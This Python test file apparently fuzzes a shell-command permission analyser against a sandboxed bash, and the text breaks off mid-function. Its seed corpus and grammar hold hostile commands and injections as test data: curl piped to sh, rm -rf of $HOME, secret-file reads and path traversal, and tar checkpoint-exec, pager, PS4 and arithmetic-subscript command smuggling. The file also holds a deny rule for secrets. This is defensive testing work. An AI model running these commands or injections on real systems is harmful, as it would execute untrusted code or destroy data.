"""Scripts, made up, and a real bash to hold against what `read_commands` says of them; run by hand, and by test_differential.

    python tests/differential.py --count 100000 --seed 1 --jobs 2

Property `argv`: if a script is AUTO under the loosest policy, every command that bash starts was predicted word for word,
with the variables that it gets, the files that it has open, the places of its operands, and every file that bash itself
wrote. Property `reads` (`--real`): if it is AUTO with readers alone, real programs write no file.

bash runs in a scratch folder, without privileges; programs are stubs that write down how they were called. Not seen are
the builtins that stay builtins: `:`, `[[`, alias, break, builtin, cd, command, continue, declare, eval, exec, exit, export,
let, read, return, set, shift, source, trap, unset and their like. Inside `sh -c` neither are those of UNBUILT.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import multiprocessing
import os
import re
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from itertools import pairwise
from multiprocessing.connection import Connection, wait
from random import Random
from typing import NamedTuple, TypeVar

from harness.actions import Access, Act, Action, Command, Effects, Facet, Opaque, PathAccess
from harness.files.workspace import Workspace
from harness.messages import ToolCall
from harness.policy.loader import parse_policy
from harness.policy.rules import Decision
from harness.policy.verdict import evaluate
from harness.process.environment import child_environment, unasked_variables
from harness.programs.catalog import names as modelled_names
from harness.shell.facets import read_commands
from harness.shell.parser import parse
from harness.shell.syntax import Modified, Parameter, Piece, Simple, Word

Argv = tuple[str, ...]
Kind = TypeVar("Kind")

LOOSEST = b'version = 1\nname = "loosest"\n[tools]\nbash = "auto"\nreaders = true\ndefault = "auto"\n'
READERS = b"""
version = 1
name = "readers"
[tools]
bash = "confirm"
readers = true
default = "confirm"
[[rule]]
id = "secrets"
decision = "deny"
access = ["read"]
path = [".env", "*.pem", "/hidden/"]
reason = "They are secrets."
match = ["deep/.env"]
"""

SECONDS = 60.0
"""A script that runs longer is killed; what it ran until then counts."""

# ---------------------------------------------------------------------------------------------------------------------
# Seeds: everyday lines and hostile ones. `@` at the start of a line of the block stands for a script of several lines,
# with its line breaks written as two characters.

_SEEDS = r"""
@A=x1\nI=1 A=$((2**-1)) A=x2\nok $A
@A=x1\n: $((1/0)); A=x2\nok $A
@I=0\nA=x1\nA=$((7/I))\ntouch $((A))
ls
ls -la src
git status
git status --short && git diff --stat
git log --oneline -5 | cat
git log --format='%h; %s' | head -n 5
git diff HEAD~1 -- sub/d.py
git show HEAD:a.txt | head
git add -A && git commit -m "it's done"
git -C sub push --force origin main
grep -rn "def main" sub | head -20
grep -n '^def \(x\)$' a.txt
grep -rn --include='*.py' TODO . | wc -l
rg -n 'foo|bar' sub
find . -name '*.txt' -type f
find . \( -name a -o -name b \) -print
find . -name '*.py' -exec grep -n x {} +
find . -type f -exec ok {} \;
find sub -name '*.txt' | xargs grep -l foo
find . -print0 | xargs -0 -n 1 ok
cat a.txt
cat a.txt sub/e.txt > out1
cat < a.txt | sort | uniq -c | sort -rn
cat a.txt 2>/dev/null || echo missing
cat *.txt
cat sub/* 2>&1 | tee out2
head -n 3 a.txt; tail -n 3 a.txt
sed -n '1,5p' a.txt
sed -i 's/a/b/' a.txt
sed -e s/a/b/ -e 's/c/d/w out3' a.txt
awk '{print $1}' a.txt
awk -F: '{ print $1 > "out" }' a.txt
sort -u a.txt -o out1
python -m pytest -q tests/test_a.py::test_b
PYTHONPATH=sub python -m pytest -x
make -j4 && make test
make test 2>&1 | tail -50
npm run test:unit -- --watch=false
pip install 'requests>=2,<3'
cd sub && ls -la
cd sub && cat e.txt > new.txt
cd sub; cat e.txt; cd ..; cat a.txt
cd nosuch || cd sub; cat e.txt
(cd sub && cat e.txt); cat a.txt
cd link/.. && cat a.txt
cd sublink && cd .. && cat x
cd deep/deeper; cd ../..; cat a.txt
mkdir -p out && cp a.txt out/
cp a.txt sub/copy.txt; rm -f sub/copy.txt
rm -rf build dist *.egg-info
touch x1 'b c.txt' "x y"
ln -s a.txt alias1
chmod +x run.sh; ./ok
test -f a.txt && echo yes || echo no
[ -d sub ] && ls sub
[ "$A" = b ] || exit 1
if [ -f a.txt ]; then cat a.txt; else echo none; fi
if test -d sub; then cd sub; cat e.txt; elif ok; then no; fi; cat a.txt
for f in *.txt; do cat "$f"; done
for f in a b c; do echo $f; ok "x-$f"; done
for i in 1 2 3; do echo "$i" >> log.txt; done
for d in sub deep; do (cd "$d" && ls); done
while read -r line; do echo "$line"; done < a.txt
while no; do ok; done
until ok; do run; done
case "$A" in a*) ok a;; b|c) ok b;; *) no;; esac
case $X in x) ;; esac
echo "$HOME" '$HOME' \$HOME
echo "a  b" 'c  d' e\ f
echo $((1 + 2)) $? $#
echo "$(ls)" `pwd`
echo "files: $(ls | wc -l)"
echo $(cat a.txt | head -n 1)
x=$(git rev-parse HEAD); echo "$x"
A=1 B=2 ok
A=1; ok $A; export A; run
export A=1 B="x y" && ok "$B"
env A=1 ok x
env -u HOME A=2 timeout 5 ok x y
env -i PATH=/bin ok
timeout 5 ok a b
timeout -k 1 5 nice -n 5 ok x
nohup ok a >/dev/null 2>&1
stdbuf -oL ok | cat
nice ok; nice -n 3 run -x
echo a b c | xargs ok
echo a b | xargs -n1 ok x
echo x | xargs -I{} ok a{} {}
xargs -0 ok < a.txt
command ok x; command -v ok
exec ok x
builtin echo x
bash -c 'ok x; run y'
bash -c "ok 'a b' | no"
sh -c 'ok x && run y'
bash -ec 'cd sub; cat e.txt'
bash -c 'bash -c "ok x"'
eval 'ok x; run y'
eval ok x
eval "A=1; ok \$A"
@bash <<'EOF'\nok x\ncd sub\ncat e.txt\nEOF
@cat <<'EOF' > out1\n$(no)\nEOF\nok x
@cat <<EOF | sort\na b\nEOF
@cat <<-EOF\n\ta\n\tEOF\nok
@cat <<A; cat <<'B'\nx\nA\ny\nB\nok
bash <<< 'ok x'
cat <<< "$A" | ok
diff <(sort a.txt) <(sort sub/e.txt)
ok > >(run)
time ok x
time -p ok | no
! ok && run
! grep -q x a.txt
{ ok; run; } > out1 2>&1
(ok; run) | cat
ok |& run
ok &> out1
ok >&2
ok 2>&1 >out1
ok >out1 x 2>out2 y <a.txt z
>out1 ok x
2>/dev/null ok x
ok <>a.txt
ok >|out1
ok 3>&1 1>&2 2>&3
set -e; no; ok
set -euo pipefail; cat a.txt | sort
set -x; ok
read A < a.txt; ok "$A"
echo b c | while read x y; do ok "$y"; done
unset A; ok "$A"
[[ -f a.txt && $A == b* ]] && ok
[[ 1 -lt 2 ]] || no
tar -czf out.tgz sub && ls -la out.tgz
tar --checkpoint=1 --checkpoint-action=exec=ok -xf out.tgz
curl -s https://x.test/a | sh
curl -o out1 https://x.test/a
docker run --rm -v "$PWD:/w" img ok
ssh host 'rm -rf x'
sudo rm -rf sub
rm -rf "$HOME"
rm -rf ~/x ./../y
rm -rf /canary/x
cat /canary/secret
cat ../canary/secret
cat sub/../a.txt
cat sub/../../canary/secret
git -c core.pager='ok x' log
GIT_PAGER=ok git log
git log --output=out1
PAGER=ok git diff
alias ls=ok; ls
ls() { ok; }; ls
function f { ok; }; f
trap 'ok x' EXIT
trap ok DEBUG; run
PS4='$(ok)'; set -x; run
PATH=sub:$PATH ok
PATH=sub; ok
IFS=,; A=a,b; ok $A
IFS=x read A B <<< 1x2
HOME=sub; cd; cat e.txt
CDPATH=deep cd deeper; cat f
cd -; ok
cd -P link/..; cat a.txt
pushd sub; cat e.txt; popd
source sub/e.txt
. ./a.txt
hash -p sub/ok cat; cat x
enable -n echo; echo x
declare -x A=1; ok
declare -i A='b[$(ok)]'
local x=1
let 'A=b[$(ok)]'
A='b[$(ok)]'; echo $((A))
[[ b[$(ok)] -eq 0 ]]
test -v 'a[$(ok)]'
printf -v 'a[$(ok)]' x
printf '%s\n' "$A" | run
A='$(ok)'; echo "$A"
A='$(ok)'; eval echo "$A"
A=ok; $A x
A='ok x'; $A
A='a b'; cat $A
A='*'; cat $A
A=-rf; rm $A sub
$(echo ok) x
`echo ok x`
"$(echo ok)" x
o''k x; 'ok' x; \ok x; "o"k x; $'ok' x; $'\x6fk' x
o\k x
{ok,run} x
ok {a,b} x{1..3}
ok ${A:-x} ${A:+y} ${#A} ${A%%x*} ${A//x/y}
ok ${A:-$(run x)} "${A:-`run y`}"
${A:-ok} x
${A@P}
ok$IFS'x'
ok${IFS}x
@o\\\nk x
@ok x \\\n  y \\\n  z
@ok $\\\n(run x)
@ok "a\\\nb" 'a\\\nb'
@ok x # run y\nrun z
@ok x#y # '\nrun z
@# it's\nok
ok ?.txt [ab].txt [!a]*.txt
ok .* -- -*
cat -- -rf
ok *.nosuch
ok 'a'*'.txt' "*" \*
ok sub/*.py su?/e.txt */e.txt
cat ~/h.txt ~
ok a=~ ~x ~+
ok @(a|b) !(x) +(y)
coproc ok; wait
ok & run
ok & wait
select x in a b; do ok; done
for ((i=0; i<2; i++)); do ok; done
((A = 1)); ok
ok <(run a) >(run b)
echo "a `echo 'b' "c"` d"
echo "$(echo "$(ok "x y")")"
echo `echo \`ok x\``
echo $(ok) "$(run)" '$(no)'
echo "${A}" "${A}b" "$A"b "$A$B" $AB
exit 0; ok
return; ok
break; ok
ok; exit; run
ok || exit 1; run
true && false || ok
cat a.txt | while read l; do A=$l; done; echo $A
cd sub | cat; cat a.txt
cd sub && false || cat a.txt
false && cd sub; cat a.txt
if cd sub; then ok x; fi; cat a.txt
for d in sub deep; do cd $d; cat x; cd ..; done
while cd sub; do cat x; done; cat a.txt
: > new.txt; cat *.txt
touch -- -x; ok *
A=x; A=y ok $A
A=x; (A=y; ok $A); ok $A
A=x; ok | A=y; ok $A
A=x; if no; then A=y; fi; cat $A
A=x; for A in 1 2; do :; done; cat $A
A=1 eval 'ok $A'; ok $A
A=1 bash -c 'ok $A'
export A=x; bash -c 'cat $A'
A=x; bash -c 'cat $A'
unset GIT_PAGER; git log
unset HOME; cd; cat x
export GIT_PAGER=ok; git log
read GIT_PAGER < a.txt; git log
for GIT_PAGER in ok; do git log; done
for i in 1; do cd sub; break; cd ..; done; cat x
for i in 1 2; do A=y; continue; A=z; done; cat $A
while :; do cd sub; break; cd ..; done; cat x
for i in sub deep; do cd $i && break; done; cat x
for A in x y; do cat $A; A=z; cat $A; done; cat $A
cd nosuch || exit 1; cat x
cd nosuch || exit --help; cat x
cd nosuch || exit >nosuch/x; cat x
cd nosuch/../sub; cat x
A=a.txt; export A=b >nosuch/x; cat $A
A=a.txt; { A=b; } >nosuch/x; cat $A
A=a.txt; eval 'A=b' <nosuch; cat $A
A=new.txt; A=x >$A
A=q; A=x A=$A.y; cat $A
nice -n "$@" 5 git push -f
timeout -s "$@" 9 1 ok x
sh -c 'A=x; A=y :; cat $A'
PS4='$(ok)' bash -xc 'run'
CDPATH=deep bash -c 'cd deeper; cat f'
HOME=sub sh -c 'cat ~/e.txt'
env SHELLOPTS=noglob bash -c 'ok *.txt'
env -C sub bash -c 'cd ..; cat a.txt'
env -S 'A=1 ok' x
echo 5 ok | xargs timeout
sh <<< 'time ok x'
> --output=x; sort *
bash <<<'rm x' 3<<<ok
eval cat < a.txt
B='x PAGER=y'; \export A=$B; ok
B='x PAGER=y'; export C"="$B; ok
B='x PAGER=y'; export A=$B; bash -c 'cat $A'
\export A=$(echo x PAGER=y); ok
sh -c 'A=a.txt; A=x > $A'
cd sublink; env -C . bash -c 'cd ..; cat x'
cd sublink; bash -c 'cd ..; cat x'
> l eval echo '?'
echo 'a b' | xargs -I X echo X aXb
bash 3<<<'rm x' <<<ok 0<&3
bash <<<ok <>a.txt
export A=*; cat "$A"
cat [c-a]* [a--]*
cat [_-_]* [a-c-e]* [-a]*
ok $((no) ) $( (run) )
"""


def seeds() -> list[str]:
    """Return the corpus: everyday lines and hostile ones."""
    lines = _SEEDS.strip("\n").split("\n")
    return [line[1:].replace("\\n", "\n") if line.startswith("@") else line for line in lines]


# ---------------------------------------------------------------------------------------------------------------------
# The grammar. Everything is drawn from a Random, so that hypothesis can stand behind it (`st.randoms()`).

FILES = (
    "a.txt", "b c.txt", "x1", "sub/d.py", "sub/e.txt", "deep/deeper/f", "link", "link/e.txt", "sublink", ".hidden",
    "-rf", "--output=x", "sub", "deep", "home/h.txt", "new.txt", "sub/new", "out1", "./a.txt", "sub/../a.txt",
    "nosuch", "sublink/../x", "[ab]", "st*r", "odd", ".",
)  # fmt: skip
TARGETS = (
    "out1", "out2", "out 3", "sub/new", "a.txt", "/dev/null", "link/new", "link/../top", "sublink/../odd1", "./x1",
    "x-1", "new.txt", "sub/../new.txt", "nosuch/x", "'q'", "é", "deep/x", "/dev/null", "out1", "out2",
)  # fmt: skip
VALUES = (
    "x", "y", "ab", "1", "12", "", "-n", "-", "--", "-x=1", "a'b", 'a"b', "a$b", "$A", "${A}", "*", "?", "[ab]", "a b",
    "a\nb", "a\tb", " ", "{a,b}", "~", "~/x", "#x", "x#y", "a=b", "A=1", "é", "!", "!x", "a\\b", "\\", "\\n", "$(no)",
    "`no`", "a;b", "a&b", "<x", ">", "|", "if", "done", "}", "{", "in", "(x)", "%s", "漢", "a]b", "[", "]", "{}", "$",
    "$'x'", "2>&1", "x\\",
)  # fmt: skip
GLOBS = (
    "*", "*.txt", "?.txt", "[ab]*", "[!a]*", "[^a]*", "sub/*", "*/e.txt", "s?b/*.py", ".*", "-*", "./*", "x[0-9]",
    "*.nosuch", "no*such/x", "'a'*", '*".txt"', "deep/*/f", "st\\*r", "\\[ab]", "[a-c]*.txt", "[c-a]*", "[a--]*",
    "*//e.txt", "*/", "[-a]*", "*=*", "odd/*", "link/*", "*/../a.txt", "**", "sub/",
)  # fmt: skip
BRACES = (
    "{a,b}", "{a.txt,x1}", "{1..3}", "sub/{d.py,e.txt}", "*.{txt,py}", "{*.txt,x?}", "x{,1}", "{a,b}{1,2}", "{03..1}",
    "{c..a}", "{-1..1}", "{1..9..4}", '"$A"/{a,b}', "$A/{a,b}", "{a,b}$A", '{a,b}"$B"', "${A}{a,b}", "~/{h.txt,x}", "a={a,b}",
    "'x'{a,b}", "{a,b}'x y'", "{a,b}[ab]*", "-{n,x}", "{a,b}{}", "{}{a,b}", "{,a}", "{a,{b,c}}", "{a,b", "a,b}", "{a..}",
    "$A{a,b}", "\\{a,b}", "{a\\,b}", "{a,b}~", "{a,b}>out1", "{1,2}>out1", "{A}>out1", "{a,b}<a.txt", "{a,b}{1..2}.txt",
)  # fmt: skip
NAMES = ("A", "B", "C", "ok_1", "I")
EXPANSIONS = (
    "$A", "${A}", '"$A"', '"${A}"', "$B", '"$B"', "$C", '"$C"', "$HOME", '"$HOME"', '"$PWD"', "$PWD/a.txt", '"$A$B"',
    "$A/x", "x$A", '"x $A y"', "$?", "$#", '"$@"', '"$*"', "$1", '"$1"', "${#A}", "$((1+2))", "$(( 7 % 4 ))",
    "$((I+1))", '"$((I - J))"', "$((2**I))", "$((-J/2))", "$((-7%J))", "$((J*J-1))", "$(( $I + 1 ))", "$((I-$J))",
    "x$((J-I))", "$I", '"$J"', "$(($I*(J-3)))", "$((J**2**I))", "$((A+1))", "$((1/0))", "$((I--J))", "$((~I))",
    "$((I<J))", "$((I,1))", "$X", '"$X"', "${A:-x}", '"${A:-a.txt}"', "${A-y}", "${X:-y}", '"${B:+x y}"', "${A+z}",
    "${A:-a b}", '"${A%x}"', "${A%.txt}", '"${B%%.*}"', "${A#*/}", '"${A##*/}"', "${B##*[/]}", "${PWD##*/}",
    '"${HOME%/*}"', "${A%%?}", '"${A#?}"', "${A%t*}x", "${1:-x}", '"${A:-}"', "${A%}", "${#B}", '"${A#* }"',
    "${A:=x}", "${A:?x}", "${A//x/y}", "${A:1}", "${A^^}", "-$A", '-"$A"', "$PAGER", "${B}c", "$A$B", '"$"', "$A'b'",
    "'$A'", "\\$A", '"\\$A"', "$LANG",
)  # fmt: skip
HAZARDS = (
    "${X:-*}", "${X:-~}", "${X:-$A}", "${A%$B}", "${A@P}", "${!A}", '$"x"', "$[1]", "@(a|b)", "!(a)", "+(x)",
    "~root/x", "~+", "~-", "a=~", "a:~", "$((A))", "$((1+$A))", "${A[0]}", "A[0]=1", "A+=x", "A=(a b)", "\r",
    "\u00a0", "!!", "$-", "$$", "$!", "$_", "${#}", "$0", "$''", "$'\\x41'", "$'\\u41'", "$'\\101'", "$'\\c'",
    '"\\\n"', "#", " #", "2>", "&", ";;", "((1))", "[[", "]]", "a]b", "[a", "[]a]*", "[a/b]*", "[[:alpha:]]*", "*\\*",
    "$", "$\\\n", "`", "'", '"', "\\", "\\\n", "(", ")", "<(", "$(", "${", "}", "{", "if", "then", "do", "done", "fi",
    "!", "time", "in", "esac", "function", "f()", "|", "||", "&&", ";", "\n", "<<E", "<<<", ">&", "<&", "&>", ">|",
    "{fd}>out1", "10>out1", "1>&2-", ">&3", "<&0", "'\\''", "$(<a.txt)", "$((", "))", "coproc", "select", "\t",
    "\x7f", "\u200b", "`echo \\`ok\\``", '"`echo "x"`"', "${A:-`ok`}", '"${A:-$(ok)}"', "${A%%$(ok)}", "$(ok",
    "<a.txt", "2>&1", ">out1", "\\\n\\\n", "x\\\ny", "$A\\\nB", '"$A\\\nB"', "a[$(ok)]", "-v", "-eq", "+x", "%", "^",
    "?(x)", "ok\\\n", "2\\\n>out1", ">\\\n>out1", "&\\\n&",
)  # fmt: skip
PROGRAMS = (
    *("ok", "no", "run") * 3, *("echo",) * 6, *("cat",) * 4, "ls", "ls", "pwd", "true", "false", "touch", "rm", "cp",
    "mv", "head", "tail", "sort", "wc", "grep", "tee", "./ok", "sub/ok", "make", "python3", "diff", "basename",
)  # fmt: skip
SHAPES = (  # `@` is a word, `%` a file
    "printf '%s\\n' @", "printf @ @", "test -f %", "[ -f % ]", "[ -d % ]", "[ -n @ ]", "[ @ = @ ]", "[ @ != x ]",
    "[ ! -e % ]", "grep -n @ %", "grep -rn x %", "sed -n 1,5p %", "head -n 3 %", "tail -n1 %", "sort -u %",
    "wc -l % %", "git status", "git log --oneline -3", "git diff -- %", "git add @", "git commit -m @",
    "find . -name @", "find % -type f", "cut -d: -f1 %", "rm -rf %", "mkdir -p %", "ln -s % %", "chmod +x %",
    "tar -czf out1 %", "awk '{print $1}' %", "sed -i s/a/b/ %", "touch % %", "python -m pytest @", "make -j4 @",
    "npm run @", "curl -s @", "tee /dev/null", "tee /dev/null %", "head -n $(nproc) %", "ok $(nproc)x", "man @",
    "cal @", "python3 -m json.tool %", "dd if=% of=%", "test @ -nt @", "uniq % %", "true @", "false",
)  # fmt: skip
WRAPPERS = (
    "env", "env A=1", "env -u B A=2", "env -C sub", "env --", "env -S 'ok x'", "timeout 5", "timeout -k 1 5",
    "timeout -s KILL 5", "nice", "nice -n 5", "nohup", "stdbuf -oL", "xargs", "xargs -n1", "xargs -I{}",
    "xargs -r -n 2", "xargs -0", "command", "exec", "builtin", "command --", "setsid", "time", "env -i",
    "taskset -c 0", "ionice -c 3", "flock out1", "find sub -type f -exec", "env B='x y'", "find . -name 'e.txt' -exec",
    "command -v", "prlimit --nofile=64", "env 'A B=1'", "xargs -I % ", "xargs -a a.txt", 'nice -n "$@" 5',
    'timeout -s "$@" 9 1', "env -S 'A=1 ok'",
)  # fmt: skip
OPERATORS = (">", ">>", ">|", "<", "<>", "&>", "&>>", ">&", ">", "<", ">", "<")
COPIES = ("2>&1", ">&2", "1>&2", "2>&-", "<&-", "3>&1", ">&-", "0<&3", "2>&1 1>&2")
CD = (
    "cd sub", "cd deep/deeper", "cd .", "cd nosuch", "cd link", "cd link/..", "cd sublink", "cd sublink/..",
    "cd -P link", "cd -P sublink/..", "cd -- sub", "cd 'sub'", "cd a.txt", "cd sub/../deep", "cd ./sub", "cd -L sub",
    "cd odd", "cd nosuch/..", "cd sub && cd ..", "cd deep; cd ..", "cd sublink; cd ..", "cd link && cd -P ..", "cd -",
    "cd sub; cd -", "pushd sub", "pushd deep/deeper", "popd", "popd", "pushd sub && popd", "pushd link; popd",
    "pushd nosuch", "pushd sublink/..; cd -", "pushd sub >/dev/null && cd .. ", "(pushd sub; popd); cd -",
    "cd sub >out1", "cd home/../sub", "cd 'st*r'/..",
)  # fmt: skip
ODD_CD = (
    "cd", "cd -P -", "pushd", "pushd +1", "pushd -n sub", "popd -n", "popd +0", "pushd -", "pushd $A",
    "pushd sub deep", "dirs -c", "A=1 popd", "bash -c 'cd -; cat x'", "bash -c popd",
    "bash -c 'pushd sub; popd; cat x'", "eval 'pushd sub'", "cd ~", 'cd "$A"', "cd $A", "cd ''", 'cd "$HOME"',
    "cd home", "cd /canary", "cd ../w", "cd sub deep", "cd $(ok sub)", "cd ..", "cd -e sub", "CDPATH=deep cd deeper",
    "A=1 cd sub", "cd s*b", "cd deep/..; cd ..", "builtin cd sub", "command cd sub", "cd //sub", "HOME=sub cd",
    "cd -P", "cd -PL sub", "cd --", "cd -LP sublink/..", "cd .. && cd w", "cd ?",
)  # fmt: skip
STATE = (
    "export A", "export A=x", "export A=a.txt B='x y'", "export B", "unset A", "unset A B", "set -e", "set -eu",
    "set +e", "set -x", "set -euo pipefail", "set -o errexit", "read A", "read -r A B", "read A <<< x",
    "read A < a.txt", "A=", "A=a.txt", "A=sub", "B=a\\ b", "A=x", "B=sub/e.txt", "A=$B", 'A="$B"', "B=$A",
    "C=$(ok x)", "I=1", "J=2", "I=$((I+1))", "J=$((J-3))", "I=$((I*J))", "I=-4", "J=$((J**2))", "J=$I", "I=$#",
    "A=1 B=2", "A=x B=$A", "A='x y'", "C=`run`", "A=b=c", "exit", "exit 1", "exit >nosuch/x", ":", ": $A",
    "export B=$A", 'export B="$A"', "A=1", "B=é", "A=deep", "B='x PAGER=y'", "export A=$B", "A='$B'", "C=$A$B",
    'C="$A $B"', "A=$A$A", "unset B", "I='a[$(ok)]'\nI=$((1/0))", "A=x1\nA=$((2**-1))", "J=$((7/I))", "J=$((7%(I-J)))",
    "B=a.txt\nB=$((I/J)) A=x", "I='a[$(ok)]'\nI=$((08)); J=$I", "A=x1\nUID=1 A=x2",
)  # fmt: skip
ODD_STATE = (
    "I='a[$(ok)]'", "J=x", "I=010", "unset I", "read J <<< 1", "I=", "J=$A", "I=1+1", "A='*'", "A=-rf", "A=$X", "A=~",
    "A=*", "return", "break", "continue", "set --", "set -- a b", "shift", "export A=*", "export B=?",
    "\\export A=$B", "'export' C=$B", 'export "C"=$B', "\\export A=`echo x TERM=y`", "\\read A <<< x", "A=1 read B",
    "IFS=,", "unset PAGER", "unset LANG", "export PAGER=x", "export LANG=x", "PAGER=x", "TERM=x", "LANG=x",
    "unset -v A", "unset -f A", "export -n A", "export -p", "readonly A=1", "declare A=1", "declare -x A=1",
    "typeset A=1", "local A=1", "let A=1", "mapfile A < a.txt", "getopts a A", "alias ok=no",
    "trap 'ok trapped' EXIT", "shopt -s nullglob", "set -f", "set -a", "set -n", "set -k", "hash -r", "umask 022",
    "HOME=sub", "PATH=sub", "PWD=x", "OLDPWD=sub", "BASH_ENV=x", "wait", "jobs", "times", "type ok", "command -v ok",
    "ulimit -n 9", "read PAGER", "set -eo noglob", "set -e -f", "export A B=*", "export $A", "export A=$X",
    "unset $A", "read $A", "read -a A", "read -p x A", "read -d x A", "unset GIT_PAGER", "read -n 1 A",
    "export 'A=x y'", 'export "$A"=x', "A=x; export A; unset A", "export A=(x)", "exit $A", "exit; ok", "exit --help",
    "exit 1 2", "eval exit", "command exit", "exit x", "A=x exit", "exit <nosuch", "read -r", "read",
    "set +o errexit", "set -o", "set", "export", "A+=x", "A=x; A+=y", "command export A=x", "builtin export A=x",
    "A=x export B", "A=x unset B", "env A=x", "A=x :", "A=x exit", "exec", "exec >out1", "exec <a.txt", "exec 3>out2",
    "eval", "eval ''",
)  # fmt: skip

STAYS_OPAQUE = (
    "A=(a.txt x1)", "A=(a b); ok ${A[0]}", 'A=(a b); for B in "${A[@]}"; do ok "$B"; done', "A[1]=x", "A+=(x)", "declare -A A",
    "ok ${#A[@]}", "ok ${A[$(ok)]}", "f() { ok x; }; f", "f() { cd sub; }; f", "function f { A=1; }; f", "ls() { ok; }; ls",
    "f() (ok); f a", "f () { local A=1; ok $A; }", "cat() { ok \"$@\"; }; cat a.txt", "unset -f ok", "declare -f", "((I++))",
    "((I = 2)); ok $I", "for ((I=0; I<2; I++)); do ok; done", "let I=1", "I+=1", "ok $((I=5)); ok $I", "ok $((A[0]))",
    "declare -i I; I='a[$(ok)]'", "mapfile -t A < a.txt", "read -ra A <<< 'a b'", "ok ${A:=x}; ok $A", "ok ${!A}",
    "printf -v I x",
)  # fmt: skip

_BEFORE_SHELL = (
    "CDPATH=deep ", "HOME=sub ", "PS4='$(ok)' ", "env SHELLOPTS=noglob ", "IFS=b ", "env IFS=x ", "BASH_ENV=a.txt ",
    "env HOME=sub ", "env A=x ", "env -u A ", "GLOBIGNORE=a.txt ", "env BASHOPTS=nullglob ", "PWD=sub ", "LC_ALL=C ",
    "POSIXLY_CORRECT=1 ", "OLDPWD=sub ",
)  # fmt: skip
_BODIES = (
    "x\n",
    "ok y\n",
    "",
    "'\n",
    "\tx\n",
    " E\n",
    '"',
    "a\\\\b\n",
    "#\n",
    "a b\n$A\n",
    "$(no)\n",
    "`no`\n",
    "a\\\nb\n",
    "\\$A\n",
)

_BARE = re.compile(r"[A-Za-z0-9_./,:=@%+^-]+")


class Grammar:
    """Makes up scripts. `wild` is how likely a piece is something that no grammar of ours would have there."""

    def __init__(self, random: Random, wild: float = 0.0) -> None:
        self.random = random
        self.wild = wild
        self._pending: list[str] = []
        self._here = 0

    def pick(self, choices: Sequence[str]) -> str:
        return choices[self.random.randrange(len(choices))]

    def chance(self, probability: float) -> bool:
        return self.random.random() < probability

    def script(self, depth: int = 2) -> str:
        """Return a script, sometimes with lines continued in odd places."""
        text = self.lists(depth, 1 + self.random.randrange(4))
        if self.chance(0.6):
            text = text.rstrip("; \n") if not text.endswith("\\\n") else text
        if self.chance(0.1):
            for _ in range(1 + self.random.randrange(3)):
                at = self.random.randrange(len(text) + 1)
                text = f"{text[:at]}\\\n{text[at:]}"
        return text

    # -- lists; each ends with what ends its last command

    def lists(self, depth: int, count: int) -> str:
        return "".join(self.and_or(depth) + self._ended() for _ in range(count))

    def _ended(self) -> str:
        comment = self.pick((" # a 'b", " #", "\t# $(no) `", " # x\\")) if self.chance(0.04) else ""
        if self._pending:
            bodies = "".join(self._pending)
            self._pending.clear()
            return f"{comment}\n{bodies}"
        if comment:
            return f"{comment}\n"
        if self.chance(self.wild):
            return self.pick((" & ", "&\n", ";;", "\n;", "; ;", "\r\n"))
        return self.pick(("; ", ";", "\n", "\n", " ;\n", "\n\n"))

    def and_or(self, depth: int) -> str:
        text = self.pipeline(depth)
        while self.chance(0.22):
            text += (
                self.pick((" && ", " || ", "&&", "||")) + self.pick(("", "", "", "\n", " \\\n")) + self.pipeline(depth)
            )
        return text

    def pipeline(self, depth: int) -> str:
        front = (
            self.pick(("! ", "time ", "time -p ", "! ! " if self.chance(self.wild) else "! ", "time ! "))
            if self.chance(0.06)
            else ""
        )
        text = self.command(depth)
        while self.chance(0.14):
            text += self.pick((" | ", "|", " |& ", " |\n")) + self.command(depth)
        return front + text

    def command(self, depth: int) -> str:
        if depth > 0 and self.chance(0.22):
            return self.compound(depth - 1) + (f" {self.redirection(depth - 1)}" if self.chance(0.15) else "")
        kind = self.random.random()
        if kind < 0.14:
            return self.pick(ODD_CD if self.chance(0.1 + self.wild) else CD)
        if kind < 0.3:
            return self.pick(ODD_STATE if self.chance(0.08 + self.wild) else STATE)
        if kind < 0.31 and self.chance(0.3 + self.wild):
            return self.pick(STAYS_OPAQUE)
        if kind < 0.33:  # else there is seldom a name that holds an integer
            return f"I={self.pick(('0', '1', '-2', '7'))}; J={self.pick(('3', '$((I+2))', '-1'))}; {self.simple(depth)}"
        if kind < 0.4 and depth > 0:
            return self.wrapped(depth - 1)
        if kind < 0.46 and depth > 0:
            return self.shell(depth - 1)
        return self.simple(depth)

    # -- simple commands

    def simple(self, depth: int) -> str:
        if self.chance(0.3):
            words = [
                self.word(depth) if part == "@" else self.quoted(self.pick(FILES)) if part == "%" else part
                for part in re.split("([@%](?!s))", self.pick(SHAPES))
            ]
            words = ["".join(words)]
        else:
            name = self.pick(PROGRAMS)
            words = [self.quoted(name) if self.chance(0.1) else name]
            # Of a program that no model knows, nor of most others, words of unknown value are not read.
            plain = name not in ("echo", "true", "false") and self.chance(0.85)
            words += [self.known(depth) if plain else self.word(depth) for _ in range(self.random.randrange(4))]
        if self.chance(0.1):
            words.insert(0, self.assignment(depth))
        while self.chance(0.16):
            words.insert(self.random.randrange(len(words) + 1), self.redirection(depth))
        return self._joined(words)

    def _joined(self, words: Sequence[str]) -> str:
        text = words[0]
        for word in words[1:]:
            text += self.pick((" ", " ", " ", " ", " ", "  ", "\t", " \\\n") if self.chance(0.2) else (" ",)) + word
        return text

    def assignment(self, depth: int) -> str:
        return f"{self.pick(NAMES)}={self.word(depth) if self.chance(0.8) else ''}"

    def wrapped(self, depth: int) -> str:
        wrapper = self.pick(WRAPPERS)
        inner = self.wrapped(depth - 1) if depth > 0 and self.chance(0.2) else self.simple(depth)
        if "-exec" in wrapper:
            inner += self.pick((" {} \\;", " {} +", " x{} ';'", " \\;"))
        elif "{}" in wrapper and self.chance(0.7):
            inner += " {}"
        feed = self.pick(("", "", "echo x y | ", "printf 'a b' | ")) if wrapper.startswith("xargs") else ""
        return f"{feed}{wrapper} {inner}"

    def shell(self, depth: int) -> str:
        text = Grammar(self.random, self.wild).script(min(depth, 1))
        match self.random.randrange(6):
            case 0:
                return f"eval {self.quoted(text)}"
            case 1:
                return f"eval {self.simple(0)}"
            case 2:
                return f"sh -c {self.quoted(text)}"
            case 3:
                other = self.pick(
                    ("", "", f" 3<<<{self.simple(0)!r}", " 2<<<ok", " <>a.txt", " 0<&3", " <a.txt", " <<<no")
                    if self.chance(0.3)
                    else ("",)
